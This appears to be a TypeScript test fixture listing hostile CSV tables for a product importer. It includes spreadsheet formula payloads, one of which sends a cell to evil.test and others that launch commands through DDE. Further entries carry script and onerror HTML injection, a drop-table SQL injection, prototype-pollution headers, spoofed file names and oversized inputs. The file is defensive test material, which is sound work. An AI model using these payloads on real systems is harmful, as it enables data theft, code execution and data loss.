import { bytesOf } from "../picture/test_pictures.ts";

const HEADER = "name_ja,name_en,description_ja,price";
const row = (name: string, description = "") =>
  `${name},${name},${description},100`;
const file = (...lines: string[]) =>
  bytesOf(utf8([HEADER, ...lines].join("\r\n")));
const utf8 = (text: string) => new TextEncoder().encode(text);

/** Texts that a spreadsheet would run. */
const FORMULAS = [
  `"=HYPERLINK(""https://evil.test?""&A1)"`,
  `"=cmd|' /C calc'!A0"`,
  `"＝1+1"`,
  `"\t=1+1"`,
  `"@SUM(1+1)"`,
  `"-2+3+cmd|' /C calc'!A0"`,
  `"'=1+1"`,
];

/** Tables that try to harm whoever reads them, by how. */
export const HOSTILE_TABLES: Readonly<Record<string, Uint8Array<ArrayBuffer>>> =
  {
    ...Object.fromEntries(
      FORMULAS.map((formula) => [`formula ${formula}`, file(row(formula))]),
    ),
    "a script as a name": file(row(`<script>globalThis.hacked=1</script>`)),
    "an attribute as a name": file(
      row(`"""><img src=x onerror=globalThis.hacked=1>"`),
    ),
    "SQL as a name": file(row(`x'); drop table products; --`)),
    "a script as a header": bytesOf(
      `<script>globalThis.hacked=1</script>,${HEADER}\nx,a,a,,100`,
    ),
    "headers of an object's prototype": bytesOf(
      `__proto__,constructor,${HEADER}\n1,2,a,a,,100`,
    ),
    "a column of another table": bytesOf(
      `role,admin_id,position,${HEADER}\nowner,x,-1,a,a,,100`,
    ),
    "the same column twice": bytesOf(`name_ja,${HEADER}\na,b,c,,100`),
    "a quote that is never closed": file(`"${"a,".repeat(5_000)}`),
    "a cell without an end": file(row("x".repeat(100_000))),
    "a line of a thousand cells": file(",".repeat(1_000)),
    "no columns": bytesOf("\r\n\r\n"),
    "nothing but quotes": bytesOf('"'.repeat(9_999)),
    "a picture": bytesOf([0x89], "PNG\r\n\x1a\n\0\0\0\rIHDR"),
    "an archive of a spreadsheet": bytesOf("PK\x03\x04\x14\0\x06\0"),
    "UTF-16": bytesOf([0xff, 0xfe], "n\0a\0m\0e\0"),
    "bytes of no encoding": bytesOf(`${HEADER}\n`, [0x80, 0xff, 0xfd, 0xa0]),
    "lone surrogates": bytesOf(`${HEADER}\n`, [0xed, 0xa0, 0x80], ",b,,100"),
    "signs that turn the text around": file(row("\u202Egnp.exe\u202C")),
    "a price below zero, and one too large": file(
      "a,a,,-1",
      "b,b,,99999999999999999999",
      "c,c,,1e9",
    ),
  };
